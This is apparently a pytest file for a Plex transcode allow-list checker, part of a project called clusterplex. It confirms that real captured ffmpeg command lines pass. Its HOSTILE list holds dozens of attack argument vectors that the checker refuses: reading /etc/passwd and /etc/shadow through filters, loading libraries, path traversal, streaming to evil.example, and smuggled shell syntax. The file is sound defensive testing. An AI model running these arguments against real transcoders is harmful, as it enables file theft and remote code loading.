"""The allow-list of a Plex transcode (core/shape): every real PMS command line passes, every attack is refused
with a one-line reason naming the option."""

import json
from pathlib import Path

import pytest

from clusterplex.core import args, protocol, shape
from clusterplex.worker import runner
from testbed import fixtures

CORPUS = Path(__file__).resolve().parent.parent / "data" / "plex-argv-corpus"
SECRET = b"s3cr3t-unit"
JOB = "0123456789abcdef0123456789abcdef"
CWD = "/transcode/Transcode/Sessions/plex-transcode-k-u"
RELAY = "http://192.0.2.10:32499" + protocol.relay_prefix(SECRET, JOB)


def capability(job_id, mac):
    return protocol.check_relay_capability(SECRET, job_id, mac)


def corpus():
    """(name, entry) for every captured command line: the corpus and the six fixtures of tests/data/plex-argv."""
    out = [(p.stem, json.loads(p.read_text())) for p in sorted(CORPUS.glob("*.json"))]
    for name in fixtures.fixture_names():
        out.append((name, {"argv": fixtures.load_argv(name), "cwd": CWD,
                           "output_roots": ["/media/movies", "/transcode/Transcode/Detection"]}))
    return out


CASES = corpus()


def test_the_corpus_is_varied_and_sourced():
    assert len(CASES) >= 16
    for name, e in CASES[:-6]:
        assert e["source"] and e["date"] and e["scenario"] and e["verbatim"] in ("full", "head", "shape"), name
        assert "xxxxxxxx" in json.dumps(e) or "X-Plex-Token" not in json.dumps(e), name   # tokens anonymised
    kinds = " ".join(e.get("scenario", "") for _, e in CASES)
    for word in ("DASH", "HLS", "VAAPI", "Live TV", "EAE", "tone mapping", "burned in", "thumbnails", "Sync",
                 "stdout", "NVDEC", "tuner"):
        assert word in kinds, word


@pytest.mark.parametrize("name,entry", CASES, ids=[n for n, _ in CASES])
def test_every_real_plex_command_line_passes(name, entry):
    argv, cwd = entry["argv"], entry["cwd"]
    assert shape.check(argv, cwd) is None
    assert runner.output_problem(argv, cwd, entry.get("output_roots", [])) is None
    # as it reaches a worker: PMS's URLs rewritten by the shim to the relay with this job's capability
    relayed = args.rewrite_urls(argv, "http://127.0.0.1:32400", RELAY)
    assert shape.check(relayed, cwd, JOB, capability) is None


def test_the_table_gives_every_option_the_arity_of_the_tokeniser():
    """A flag in the table is a flag to args.tokenize, a valued option is not: a flag can never swallow a path."""
    flags = {n for n, kind in shape.OPTIONS.items() if kind == shape.FLAG}
    assert flags <= args.FLAGS
    assert not ({n for n in shape.OPTIONS if n not in flags} & args.FLAGS)
    assert not set(shape.OPTIONS) & set(shape.REFUSED_OPTIONS)


def plex(*middle, out=("-f", "dash", "dash"), tail=()):
    """A minimal Plex-shaped job around ``middle`` (the part under test)."""
    return ["-i", "/media/movies/x.mkv", *middle, "-codec:0", "libx264", *out, "-y", "-nostats",
            "-progressurl", RELAY + "/video/:/transcode/session/k/u/progress", *tail]


HOSTILE = [
    # the attacks
    (["-f", "data", "-i", "/etc/clusterplex/secret", "-map", "0", "-c", "copy", "-f", "data", "loot.bin"],
     "-f data (demuxer data is not one Plex uses)"),
    (plex(out=("-f", "data", "loot.bin")), "-f data (muxer data is not one Plex uses)"),
    (plex(out=("-f", "tee", "[f=mpegts]/abs/path")), "-f tee (muxer tee"),
    (plex(out=("-f", "mpegts", "http://any-host/")), "http://any-host/ (a second callback endpoint"),
    (["-i", "/media/x.mkv", "-f", "mpegts", "http://any-host/"], "http://any-host/ (not a Plex callback path"),
    (plex("-af", "ladspa=file=/transcode/x.so"), "-af ladspa=file=/transcode/x.so (filter ladspa loads a library)"),
    (plex(out=("-f", "hls", "-hls_fmp4_init_filename", "../../../x", "x.m3u8")), "-hls_fmp4_init_filename ../../../x"
     " (climbs out of the session dir with ..)"),
    (plex("-report", "/abs/out"), "refused: -report (writes a report file"),
    (plex("-vf", "metadata=mode=print:file=/abs"), "(filter metadata writes a file with file=)"),
    (plex("-dump_attachment:t", ""), "refused: -dump_attachment:t (writes attachments under names taken from"),
    # more of the same kinds
    (plex("-filter_complex_script", "/tmp/g"), "-filter_complex_script (reads a filter graph from a file)"),
    (plex("-filter_script:v", "/tmp/g"), "-filter_script:v (reads a filter graph from a file)"),
    (plex("-/vf", "/tmp/g"), "-/vf (not an option Plex's transcoder is given)"),
    (plex("-vstats_file", "/etc/x"), "-vstats_file /etc/x (writes outside the session dir)"),
    (plex("-passlogfile", "../x"), "-passlogfile ../x (climbs out"),
    (plex("-progress", "/tmp/p"), "-progress /tmp/p (writes outside the session dir)"),
    (plex(out=("-f", "ssegment", "-segment_list", "/var/spool/x", "m-%05d.ts")), "-segment_list /var/spool/x"),
    (plex(out=("-f", "dash", "-init_seg_name", "../../x.m4s", "dash")), "-init_seg_name ../../x.m4s (climbs"),
    (plex(out=("-f", "dash", "-media_seg_name", "/tmp/c-$Number$.m4s", "dash")), "(writes outside the session dir)"),
    (plex(out=("-f", "hls", "-hls_segment_filename", "/tmp/s%d.ts", "x.m3u8")), "-hls_segment_filename /tmp/s%d.ts"),
    (plex(out=("-f", "segment", "-segment_header_filename", "../h", "m-%d.ts")), "-segment_header_filename ../h"),
    (plex("-vf", "drawtext=textfile=/etc/shadow"), "(filter drawtext reads files"),
    (plex("-vf", "movie=/etc/passwd[m];[in][m]overlay"), "(filter movie opens a file or URL)"),
    (plex("-filter_complex", "amovie=http://evil.example/x"), "(filter amovie opens a file or URL)"),
    (plex("-af", "azmq"), "(filter azmq takes commands from a socket)"),
    (plex("-vf", "scale=w=2:h=2,zmq=b=tcp\\://0.0.0.0\\:5555"), "(filter zmq takes commands from a socket)"),
    (plex("-vf", "sendcmd=f=/tmp/c,scale"), "(filter sendcmd reads commands from a file)"),
    (plex("-vf", "frei0r=filter_name=/tmp/x.so"), "(filter frei0r loads a library)"),
    (plex("-af", "lv2=p=http://x/plugin"), "(filter lv2 loads a library)"),
    (plex("-vf", "scale=w=1:h=1,subtitles=/etc/passwd"), "(filter subtitles reads a file)"),
    (plex("-vf", "psnr=stats_file=/tmp/s"), "(filter psnr writes a file"),
    (plex("-vf", "scale@x=w=1:h=1,LADSPA"), "(filter LADSPA is not one Plex uses)"),
    (plex("-vf", "[a,ladspa]scale"), "(malformed filter"),
    (plex("-filter_complex", "[0:0]inlineass=font_path=../../etc[0]"), "(filter inlineass option font_path climbs"),
    (plex("-filter_complex", "[0:0]scale=w=1:filename=/x[0]"), "(filter scale option filename names a file)"),
    (["-i", "concat:/etc/passwd|/etc/group", "-f", "mpegts", "o.ts"], "(protocol concat is not allowed for an input)"),
    (["-i", "subfile,,start,0,end,0,,:/etc/passwd", "o.ts"], "is not allowed for an input)"),
    (["-i", "tcp://192.0.2.1:9", "o.ts"], "(protocol tcp is not allowed for an input)"),
    (["-i", "udp://192.0.2.1:9", "o.ts"], "(protocol udp is not allowed"),
    (["-i", "rtmp://192.0.2.1/live", "o.ts"], "(protocol rtmp is not allowed"),
    (["-i", "ftp://192.0.2.1/x", "o.ts"], "(protocol ftp is not allowed"),
    (["-i", "unix:/run/clusterplex/x.sock", "o.ts"], "(protocol unix is not allowed"),
    (["-i", "data:text/plain,x", "o.ts"], "(protocol data is not allowed"),
    (["-i", "-", "o.ts"], "(Plex's transcoder never reads its stdin)"),
    (["-i", "pipe:0", "o.ts"], "(protocol pipe is not allowed for an input)"),
    (["-f", "lavfi", "-i", "movie=/etc/passwd", "o.ts"], "-f lavfi (demuxer lavfi is not one Plex uses)"),
    (["-f", "concat", "-safe", "0", "-i", "list.txt", "o.ts"], "-f concat (demuxer concat"),
    (plex(out=("-f", "mpegts", "rtmp://evil.example/live")), "(protocol rtmp is not allowed for an output)"),
    (plex(out=("-f", "mpegts", "pipe:3")), "(only stdout may be a pipe)"),
    (plex(out=("-f", "mpegts", "../../x.ts")), "../../x.ts (climbs out"),
    (plex(out=("-segment_format", "tee", "-f", "segment", "m-%d.ts")), "-segment_format tee (muxer tee"),
    (plex(out=("-f", "segment", "-segment_format_options", "hls_segment_filename=/x", "m-%d.ts")),
     "(format option hls_segment_filename is not one Plex uses)"),
    (plex("-attach", "/etc/passwd"), "-attach (copies any file into the output)"),
    (plex("-protocol_whitelist", "file,tcp"), "-protocol_whitelist (changes which protocols may open)"),
    (plex("-init_hw_device", "vaapi=va:/etc/x"), "(names a device outside /dev/dri)"),
    (plex("-vaapi_device", "/dev/dri/../../etc/x"), "(names a device outside /dev/dri)"),
    (plex("-map_inlineass", "../../etc/passwd:0"), "-map_inlineass ../../etc/passwd:0"),
    (plex("-foo", "bar"), "-foo (not an option Plex's transcoder is given)"),
    (plex("-h", "full"), "-h (not an option"),
    (plex("-dump"), "-dump (not part of a Plex transcode)"),
    (plex("-codec:0", "h264;ladspa"), "(not a codec or device name)"),
    (plex("-codec:0$(x)", "h264"), "(malformed stream specifier)"),
    (plex(tail=("-loglevel",)), "-loglevel (missing its value)"),
    (["-f", "mpegts", "o.ts"], "no input (-i)"),
    # network: one callback endpoint, Plex's callback paths, this job's capability
    (plex(out=("-f", "dash", "-manifest_name", "http://evil.example/video/:/transcode/session/k/u/manifest",
               "dash")), "(a second callback endpoint (the first was http://192.0.2.10:32499)"),
    (plex(out=("-f", "dash", "-manifest_name", RELAY + "/library/sections", "dash")), "(not a Plex callback path"),
    (plex(out=("-f", "dash", "-manifest_name", RELAY + "/video/:/transcode/../../library", "dash")),
     "(not a Plex callback path"),
    (plex(out=("-f", "dash", "-manifest_name", "ftp://192.0.2.10/x", "dash")), "(only HTTP callbacks to Plex"),
    (["-i", "/m/x.mkv", "-progressurl", "http://192.0.2.10:32499/_cp/otherjob00/" + "0" * 32 + "/video/:/transcode/x",
      "o.ts"], "(the relay capability is not this job's)"),
    (["-i", "/m/x.mkv", "-progressurl", f"http://192.0.2.10:32499/_cp/{JOB}/{'0' * 32}/video/:/transcode/x", "o.ts"],
     "(the relay capability is not this job's)"),
    (["-i", "/m/x.mkv", "-progressurl", "http://user:pw@192.0.2.10/video/:/transcode/x", "o.ts"], "(user info"),
    (["-i", f"http://192.0.2.10:32499/_cp/other0000/{'0' * 32}/livetv/x.m3u8", "o.ts"],
     "(the relay capability is not this job's)"),
]


@pytest.mark.parametrize("argv,reason", HOSTILE, ids=[r[:50] for _, r in HOSTILE])
def test_each_attack_is_refused_with_a_reason_naming_the_option(argv, reason):
    problem = shape.check(argv, CWD, JOB, capability)
    assert problem is not None and problem.startswith("refused: "), (argv, problem)
    assert reason in problem, problem
    assert "\n" not in problem and len(problem) < 240


def test_without_a_capability_check_the_rest_still_holds():
    argv = plex()
    assert shape.check(argv, CWD, JOB) is None
    assert "capability" in shape.check(args.rewrite_urls(argv, RELAY, "http://192.0.2.10:32499/_cp/x/y"), CWD, JOB)


def test_a_flag_never_hides_the_output_after_it():
    """ffmpeg reads ``-report`` as a flag, the tokeniser as an option with a value: refused, not skipped."""
    argv = ["-i", "/media/x.mkv", "-report", "/etc/cron.d/evil"]
    assert args.parse(argv).output_values == ()          # what a reader of the tokens would miss
    assert shape.check(argv, CWD).startswith("refused: -report")


def test_the_graph_splitter_reads_filters_as_ffmpeg_does():
    assert [n for n, _ in shape.split_graph(
        "[0:0]scale=w=720:h=404[0];[0]format=pix_fmts=yuv420p|nv12[1]")] == ["scale", "format"]
    assert [n for n, _ in shape.split_graph("[0:1] aresample=async=1:ochl='stereo,x':osr=48000[2]")] == ["aresample"]
    assert [n for n, _ in shape.split_graph("scale=w=1\\,ladspa")] == ["scale"]     # an escaped comma splits nothing
    assert shape.graph_problem("hwmap=derive_device=opencl,tonemap_opencl=tonemap=hable:format=nv12") is None


def test_reads_are_the_inputs_and_subtitle_files():
    argv = ["-i", "/media/a.mkv", "-i", "temp-0.srt", "-i", "http://x/y", "-map_inlineass", "/media/s.ass:0", "o"]
    assert shape.reads(argv, CWD) == ["/media/a.mkv", CWD + "/temp-0.srt", "/media/s.ass"]


@pytest.mark.parametrize("mode", ["none", "auto", "vaapi", "nvenc", "qsv"])
def test_what_the_workers_own_rewrite_adds_stays_plex_shaped(mode):
    """The hwaccel swaps and path_map (worker/rewrite) run before the second check: they must pass it too."""
    from clusterplex.worker import rewrite as rw
    node = "/dev/dri/renderD128"
    hw = {"cpu": {"arch": "x86_64", "model": "t"}, "transcoder": {"plex_arch": "linux-x86_64-standard"},
          "gpus": [{"vendor": "intel", "driver": "i915", "render_node": node},
                   {"vendor": "nvidia", "driver": "nvidia", "render_node": "/dev/dri/renderD129"}],
          "hw_codecs": [f"{c}:{a}:{d}" for c in ("h264", "hevc") for a in ("vaapi", "qsv", "nvenc")
                        for d in ("encode", "decode")] + ["h264:nvdec:decode", "hevc:nvdec:decode"]}
    for name, entry in CASES:
        res = rw.rewrite({"argv": entry["argv"], "cwd": entry["cwd"], "env": {}},
                         {"hwaccel": mode, "path_map": [{"from": "/media", "to": "/mnt/media"}]}, hw)
        assert shape.check(res.argv, res.cwd) is None, (name, res.notes)


def test_the_tables_arity_is_stock_ffmpegs():
    """Every option of the table that Debian's ffmpeg knows takes a value there exactly when the table says
    so (Plex-only options are unknown to it): what the checker reads as a value, ffmpeg reads as one."""
    import shutil
    import subprocess
    ffmpeg = shutil.which("ffmpeg")
    if ffmpeg is None:
        pytest.skip("no ffmpeg")
    from concurrent.futures import ThreadPoolExecutor

    def wrong(item):
        name, kind = item
        err = subprocess.run([ffmpeg, "-hide_banner", "-nostdin", f"-{name}"], capture_output=True, text=True,
                             timeout=20).stderr
        return "Unrecognized option" not in err and (kind == shape.FLAG) == ("Missing argument" in err)

    with ThreadPoolExecutor(4) as pool:
        verdicts = list(pool.map(wrong, sorted(shape.OPTIONS.items())))
    assert [name for name, bad in zip(sorted(shape.OPTIONS), verdicts) if bad] == []
